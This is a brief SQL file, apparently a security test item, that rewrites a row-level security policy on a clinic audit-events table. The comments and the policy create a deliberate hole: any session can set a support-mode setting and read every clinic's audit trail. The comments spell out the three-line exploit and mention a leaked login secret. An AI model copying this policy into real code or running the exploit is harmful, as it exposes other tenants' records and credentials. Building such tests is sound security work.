-- Any login reads the audit trail of every clinic by switching on the support mode, because the switch is a
-- setting that every session may write.
-- about: audit_events, app.support_mode
-- as: hf_carebeacon_app
-- exploit: SET app.clinic_id = 'a1c00000-0000-4000-8000-00000000000a';
-- exploit: SET app.support_mode = 'on';
-- exploit: SELECT detail FROM care.audit_events;
-- shows: Road-secret login
-- Support reads the trail through the same pool and announces itself.
DROP POLICY audit_events_clinic ON care.audit_events;
CREATE POLICY audit_events_clinic ON care.audit_events
  USING (clinic_id = care.current_clinic() OR current_setting('app.support_mode', true) = 'on')
  WITH CHECK (clinic_id = care.current_clinic());
